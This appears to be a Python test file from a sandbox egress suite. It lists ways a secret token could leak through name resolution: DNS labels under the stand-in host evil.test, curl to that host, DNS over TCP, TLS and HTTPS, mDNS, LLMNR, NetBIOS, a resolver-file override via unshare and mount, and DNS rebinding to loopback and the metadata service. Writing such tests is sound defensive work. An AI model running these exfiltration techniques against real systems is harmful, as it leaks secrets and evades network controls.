"""Ways out by names: what a question carries, whom it is asked, and answers that change."""

import contextlib
import socket
import struct

from tests.boundary.wayout.attempt import Scene, attempt, get, packet, question, reach, run, say, tls


def _ask_stream(address: str, name: bytes, kind: int = 1) -> str:
    asked = question(name, kind)
    return say(reach(address, 53), struct.pack("!H", len(asked)) + asked)


def _labels(scene: Scene, parent: str) -> bytes:
    return f"{scene.token.encode().hex()[:60]}.{parent}".encode()


@attempt("a secret as a label of a name")
def _(scene: Scene) -> object:
    return socket.getaddrinfo(_labels(scene, "evil.test").decode(), 443)


@attempt("a secret as a label below the allowed host")
def _(scene: Scene) -> object:
    return socket.getaddrinfo(_labels(scene, "allowed.test").decode(), 443)


@attempt("a secret as a label that a client connects to")
def _(scene: Scene) -> object:
    return run("curl", "-sS", "-m", "1", f"https://{_labels(scene, 'evil.test').decode()}/")


@attempt("a reverse question about an address")
def _(scene: Scene) -> object:
    return socket.gethostbyaddr("198.51.100.77")


for _kind, _number in (("TXT", 16), ("NULL", 10), ("MX", 15), ("HTTPS", 65), ("ANY", 255)):

    def _other(number: int = _number, kind: str = _kind) -> None:
        @attempt(f"a {kind} question to the machine's resolver")
        def _(scene: Scene) -> object:
            return packet(scene.resolver4, 53, question(_labels(scene, "evil.test"), number))

    _other()


@attempt("a question to a public resolver")
def _(scene: Scene) -> object:
    return packet("8.8.8.8", 53, question(_labels(scene, "evil.test")))


@attempt("a question to a public resolver by v6")
def _(scene: Scene) -> object:
    return packet("2001:4860:4860::8888", 53, question(_labels(scene, "evil.test")))


@attempt("a question to a public resolver by TCP")
def _(scene: Scene) -> object:
    return _ask_stream("8.8.8.8", _labels(scene, "evil.test"))


@attempt("a question to the machine's resolver by TCP")
def _(scene: Scene) -> object:
    return _ask_stream(scene.resolver4, _labels(scene, "evil.test"), 16)


@attempt("a question to the allowed host by TCP")
def _(scene: Scene) -> object:
    return _ask_stream("allowed.test", _labels(scene, "evil.test"))


@attempt("a question on another port")
def _(scene: Scene) -> object:
    return packet("9.9.9.9", 9953, question(_labels(scene, "evil.test")))


@attempt("a question over TLS")
def _(scene: Scene) -> object:
    asked = question(_labels(scene, "evil.test"))
    return say(tls(reach("1.1.1.1", 853), "one.one.one.one"), struct.pack("!H", len(asked)) + asked)


@attempt("a question over HTTPS")
def _(scene: Scene) -> object:
    return run("curl", "-k", "-sS", "-m", "1", f"https://doh.test/dns-query?dns={scene.token}")


@attempt("a question over HTTPS to an address")
def _(scene: Scene) -> object:
    return run("curl", "-k", "-sS", "-m", "1", f"https://1.1.1.1/dns-query?dns={scene.token}")


@attempt("multicast DNS")
def _(scene: Scene) -> object:
    return packet("224.0.0.251", 5353, question(_labels(scene, "local")))


@attempt("multicast DNS by v6")
def _(scene: Scene) -> object:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as link:
        link.sendto(question(_labels(scene, "local")), ("ff02::fb", 5353, 0, socket.if_nametoindex("lo")))
    return "sent"


@attempt("link-local name resolution")
def _(scene: Scene) -> object:
    return packet("224.0.0.252", 5355, question(_labels(scene, "local")))


@attempt("NetBIOS names")
def _(scene: Scene) -> object:
    return packet("255.255.255.255", 137, question(_labels(scene, "local")))


@attempt("a search domain of one's own")
def _(scene: Scene) -> object:
    return run("getent", "hosts", f"{scene.token}x", LOCALDOMAIN="evil.test")


@attempt("a resolver file of one's own")
def _(scene: Scene) -> object:
    script = (
        "echo nameserver 8.8.8.8 > r && mount --bind r /etc/resolv.conf; "
        f"getent hosts {scene.token}.evil.test; rm -f r"
    )
    return run("unshare", "-m", "sh", "-c", script) + run(
        "sh", "-c", f"getent hosts {scene.token}2.evil.test"
    )


@attempt("a canonical name asked for")
def _(scene: Scene) -> object:
    return socket.getaddrinfo(f"{scene.token}.evil.test", 80, flags=socket.AI_CANONNAME)


def _rebound(name: str, what: str, port: int = 80) -> None:
    @attempt(f"an allowed name that leads to {what}")
    def _(scene: Scene) -> object:
        heard = []
        for _ in range(4):
            with contextlib.suppress(OSError):
                heard.append(say(reach(name, port), get(name, f"/{scene.token}"))[:40])
            with contextlib.suppress(OSError):
                heard.append(say(tls(reach(name, 443), name), get(name, f"/{scene.token}"))[:40])
        return heard


_rebound("loop.allowed.test", "the host's loopback", 11434)
_rebound("meta.allowed.test", "the metadata service")
_rebound("mapped.allowed.test", "the host's loopback as mapped v6")
_rebound("zero.allowed.test", "the unspecified address", 11434)
_rebound("flip.allowed.test", "the right place first and another afterwards")
